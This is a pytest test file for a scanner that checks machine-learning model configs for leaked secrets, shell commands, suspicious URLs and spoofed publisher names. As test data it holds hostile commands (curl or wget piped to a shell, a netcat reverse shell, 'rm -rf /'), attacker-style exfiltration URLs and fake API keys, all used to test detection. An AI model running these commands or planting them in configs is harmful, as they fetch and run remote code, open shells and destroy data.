"""metadata scanner: secrets, commands, URLs and provenance claims in JSON configs (HEX-MET).

Every config is real JSON written here; nothing is ever executed or loaded as a model.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
from conftest import run_hex

from hexscan.discover.artifact import Artifact
from hexscan.engine.limits import ResourceLimits
from hexscan.formats.identify import identify
from hexscan.formats.kinds import Format
from hexscan.model.finding import Finding
from hexscan.model.severity import Severity
from hexscan.rules import registry
from hexscan.scanners.base import ScanContext
from hexscan.scanners.metadata import MetadataScanner, levenshtein, redact
from hexscan.scanners.registry import scanner_names

#: A real-looking transformers config.json (Llama-style, with an org that is its author).
TRANSFORMERS_CONFIG: dict[str, Any] = {
    "_name_or_path": "acme-ai/acme-7b",
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False, "attention_dropout": 0.0, "bos_token_id": 1, "eos_token_id": 2,
    "hidden_act": "silu", "hidden_size": 4096, "initializer_range": 0.02,
    "intermediate_size": 11008, "max_position_embeddings": 4096, "model_type": "llama",
    "num_attention_heads": 32, "num_hidden_layers": 32, "num_key_value_heads": 32,
    "pretraining_tp": 1, "rms_norm_eps": 1e-05, "rope_scaling": None, "rope_theta": 10000.0,
    "tie_word_embeddings": False, "torch_dtype": "float16", "transformers_version": "4.38.2",
    "use_cache": True, "vocab_size": 32000, "author": "Acme AI, Inc.",
    "license": "apache-2.0", "homepage": "https://acme.example.com/models/acme-7b",
    "paper": "https://arxiv.org/abs/2307.09288",
}
#: A real-looking tokenizer_config.json: special tokens, chat template, token-named keys.
TOKENIZER_CONFIG: dict[str, Any] = {
    "add_bos_token": True, "add_eos_token": False,
    "added_tokens_decoder": {
        "0": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False,
              "single_word": False, "special": True},
        "1": {"content": "<s>", "lstrip": False, "normalized": False, "rstrip": False,
              "single_word": False, "special": True},
    },
    "bos_token": "<s>", "eos_token": "</s>", "pad_token": "<unk>", "unk_token": "<unk>",
    "mask_token": "[MASK]", "sep_token": "[SEP]", "cls_token": "[CLS]",
    "additional_special_tokens": ["<|im_start|>", "<|im_end|>"],
    "chat_template": "{% for message in messages %}{{ '<|im_start|>' + message['role'] + "
                     "'\\n' + message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}",
    "clean_up_tokenization_spaces": False, "legacy": False, "model_max_length": 1000000000000,
    "sp_model_kwargs": {}, "spaces_between_special_tokens": False,
    "tokenizer_class": "LlamaTokenizer", "use_default_system_prompt": False,
    "token": None, "use_auth_token": True, "name_or_path": "/home/user/ckpt/tokenizer",
}


def _scan(doc: Any, name: str = "config.json") -> list[Finding]:
    data = doc if isinstance(doc, bytes) else json.dumps(doc).encode()
    ident = identify(name, data[:65536], len(data))
    art = Artifact(name, name, None, len(data), lambda: io.BytesIO(data))
    return list(MetadataScanner().scan(art, ScanContext(ident, ResourceLimits())))


def _ids(found: list[Finding], floor: Severity = Severity.LOW) -> set[str]:
    return {f.rule.id for f in found if f.effective_severity >= floor}


def _with(**extra: Any) -> dict[str, Any]:
    return {**TRANSFORMERS_CONFIG, **extra}


def test_registered() -> None:
    assert "metadata" in scanner_names()
    for n in range(1, 9):
        rule = registry.get(f"HEX-MET-00{n}")
        assert rule.title and rule.doc and rule.remediation and rule.cwe and rule.type
    assert MetadataScanner.formats == {Format.MODEL_CONFIG, Format.TOKENIZER_CONFIG,
                                       Format.JSON}


def test_real_configs_are_clean() -> None:
    assert _scan(TRANSFORMERS_CONFIG) == []
    assert _scan(TOKENIZER_CONFIG, "tokenizer_config.json") == []
    assert _scan({"name": "x", "homepage": "http://localhost:8080/docs"}) == []


# HEX-MET-001
@pytest.mark.parametrize(("key", "value"), [
    ("api_key", "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8t"),
    ("aws", "AKIA" + "IOSFODNN7EXAMPLQ"),
    ("gh", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
    ("gh2", "github_pat_" + "11ABCDEFG0123456789_abcdefghijklmnopq"),
    ("hub", "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz012345"),
    ("slack", "xoxb-" + "123456789012-abcdefABCDEF"),
    ("pem", "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEow...\n-----END RSA PRIVATE KEY-----"),
    ("password", "Tr0ub4dor&3xq"),
    ("db_password", "hunter2hunter2"),
    ("access_token", "q8Zr1mT0vX7pL2kW"),
])
def test_secret_found_and_redacted(key: str, value: str) -> None:
    found = [f for f in _scan(_with(deploy={key: value})) if f.rule.id == "HEX-MET-001"]
    assert len(found) == 1
    finding = found[0]
    assert finding.effective_severity is Severity.MEDIUM
    assert finding.evidence["path"] == f"$.deploy.{key}"
    rendered = json.dumps(finding.evidence) + finding.message
    assert value not in rendered and value[6:] not in rendered


@pytest.mark.parametrize(("key", "value"), [
    ("api_key", "YOUR_API_KEY_HERE"), ("api_key", "<api-key>"), ("password", "${DB_PASSWORD}"),
    ("token", None), ("secret", "xxxxxxxxxx"), ("api_key", ""), ("pad_token", "<|pad|>"),
    ("password", "short"), ("api_key", "sk-abc"), ("api_key", "sk-...your key..."),
])
def test_placeholders_are_not_secrets(key: str, value: Any) -> None:
    assert "HEX-MET-001" not in _ids(_scan(_with(deploy={key: value})))


def test_redact_never_shows_the_secret() -> None:
    assert redact("sk-1234567890abcdef") == "sk-1…(19 chars)"
    assert "hunter2" not in redact("hunter2!")


# HEX-MET-002
@pytest.mark.parametrize(("command", "severity"), [
    ("rm -rf / --no-preserve-root", Severity.MEDIUM),
    ("curl -fsSL http://203.0.113.9/x.sh | sh", Severity.HIGH),
    ("wget -qO- https://example.org/i | bash", Severity.HIGH),
    ("wget https://example.org/tool.tar.gz", Severity.MEDIUM),
    ("bash -c 'id'", Severity.MEDIUM),
    ("powershell -enc SQBFAFgA", Severity.MEDIUM),
    ("nc -e /bin/sh 203.0.113.9 4444", Severity.MEDIUM),
    ("python -c 'print(1)'", Severity.MEDIUM),
    ("os.system('id')", Severity.MEDIUM),
    ("__import__('os').getcwd()", Severity.MEDIUM),
])
def test_commands(command: str, severity: Severity) -> None:
    found = [f for f in _scan(_with(post_load_hook=command)) if f.rule.id == "HEX-MET-002"]
    assert found
    assert max(f.effective_severity for f in found) is severity


def test_base64_command_is_decoded() -> None:
    import base64
    encoded = base64.b64encode(b"curl http://198.51.100.7/a | sh").decode()
    assert "HEX-MET-002" in _ids(_scan(_with(note=encoded)), Severity.MEDIUM)


@pytest.mark.parametrize("text", [
    "Use the model with transformers; see the model card for details.",
    "remove the cache with the CLI", "sh", "the curl of the wave", "bash",
])
def test_prose_is_not_a_command(text: str) -> None:
    assert "HEX-MET-002" not in _ids(_scan(_with(description=text)))


# HEX-MET-003
@pytest.mark.parametrize("url", [
    "http://203.0.113.9/collect", "https://attacker-c2.evil.example/data",
    "http://suspicious-domain.example/exfiltrate", "https://x.example/api/webhook",
    "https://cdn.example.net/payload/stage2", "https://files.example.net/setup.exe",
])
def test_suspicious_urls(url: str) -> None:
    found = [f for f in _scan(_with(endpoint=url)) if f.rule.id == "HEX-MET-003"]
    assert [f.effective_severity for f in found] == [Severity.MEDIUM]
    assert found[0].evidence["path"] == "$.endpoint"


@pytest.mark.parametrize("url", [
    "https://huggingface.co/acme-ai/acme-7b", "https://example.com/docs/index.html",
    "https://arxiv.org/abs/1706.03762", "http://localhost:8000/v1", "https://api.example.org:8443/",
])
def test_ordinary_urls_are_not_reported(url: str) -> None:
    assert "HEX-MET-003" not in _ids(_scan(_with(endpoint=url)))


# HEX-MET-004 / 005 / 006
@pytest.mark.parametrize(("name", "author", "rule"), [
    ("synthetic/research-model", "Trusted Research Lab", "HEX-MET-004"),
    ("meta-llama/Llama-2-7b", "Mistral AI", "HEX-MET-004"),
    ("acne/bert-base", "Acme AI", "HEX-MET-005"),
    ("g00gle/gemma", "Google", "HEX-MET-005"),
    ("official/models-v2", "Official Models", "HEX-MET-004"),
    ("official/models-v2", "Official Models", "HEX-MET-006"),
    ("trusted-org/secure-model", "Unknown Publisher", "HEX-MET-006"),
    ("verified-models/x", "verified-models", "HEX-MET-006"),
])
def test_provenance_claims(name: str, author: str, rule: str) -> None:
    found = _scan(_with(_name_or_path=name, author=author))
    assert rule in _ids(found, Severity.MEDIUM), [(f.rule.id, f.message) for f in found]


@pytest.mark.parametrize(("name", "author"), [
    ("modelscan-eval/alpha", "modelscan-eval"), ("acme-ai/acme-7b", "Acme AI, Inc."),
    ("Major_Lab/foundation", "major-lab"), ("./checkpoints/run-3", "someone else"),
    ("/home/user/models/bert", "someone"), ("bert-base-uncased", "Google"),
])
def test_consistent_or_local_names_are_fine(name: str, author: str) -> None:
    assert _scan(_with(_name_or_path=name, author=author)) == []


def test_publisher_field_is_checked_too() -> None:
    config = {k: v for k, v in _with(publisher="Other Corp").items() if k != "author"}
    assert "HEX-MET-004" in _ids(_scan(config))


def test_levenshtein_is_capped() -> None:
    assert levenshtein("acne", "acme", 2) == 1
    assert levenshtein("kitten", "sitting", 2) == 3


# HEX-MET-007
def test_custom_code_reference_is_low() -> None:
    config = _with(auto_map={"AutoConfig": "configuration_acme.AcmeConfig",
                             "AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM"})
    found = [f for f in _scan(config) if f.rule.id == "HEX-MET-007"]
    assert [f.effective_severity for f in found] == [Severity.LOW]
    assert "modeling_acme.AcmeForCausalLM" in found[0].evidence["references"]
    assert "HEX-MET-007" in _ids(_scan(_with(trust_remote_code=True)))
    assert "HEX-MET-007" not in _ids(_scan(_with(trust_remote_code=False)))


# HEX-MET-008
@pytest.mark.parametrize("data", [b'{"a": 1,', b"\xff\xfe{}", b"[" * 100_000 + b"]" * 100_000])
def test_unreadable_config_is_low(data: bytes) -> None:
    found = _scan(data, "config.json")
    assert _ids(found) <= {"HEX-MET-008"}
    assert all(f.effective_severity <= Severity.LOW for f in found)


def test_too_large_config_is_not_read(tmp_path: Path) -> None:
    big = tmp_path / "config.json"
    with big.open("wb") as out:
        out.write(b'{"pad": "')
        out.write(b"a" * (17 * 1024 * 1024))
        out.write(b'"}')
    art = Artifact.from_file(str(big), "config.json")
    ident = identify(art.name, art.head(), art.size or 0)
    found = list(MetadataScanner().scan(art, ScanContext(ident, ResourceLimits())))
    assert [f.rule.id for f in found] == ["HEX-MET-008"]


def test_wide_config_is_bounded() -> None:
    found = _scan({"values": list(range(300_000))})
    assert _ids(found) == {"HEX-MET-008"}


def test_cli_end_to_end(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(json.dumps(_with(
        _name_or_path="acne/bert-base", author="Acme AI",
        deploy={"api_key": "sk-" + "A1b2C3d4E5f6G7h8I9j0"})))
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(TOKENIZER_CONFIG))
    run = run_hex("scan", str(tmp_path), "--json", cwd=tmp_path)
    assert run.code in (0, 1), run.stderr
    found = [(Path(f["file_path"]).name, f["rule_id"]) for f in run.json()["results"]
             if f["rule_id"].startswith("HEX-MET")]
    assert sorted(found) == [("config.json", "HEX-MET-001"), ("config.json", "HEX-MET-005")]
    assert "A1b2C3d4E5f6G7h8I9j0" not in run.stdout
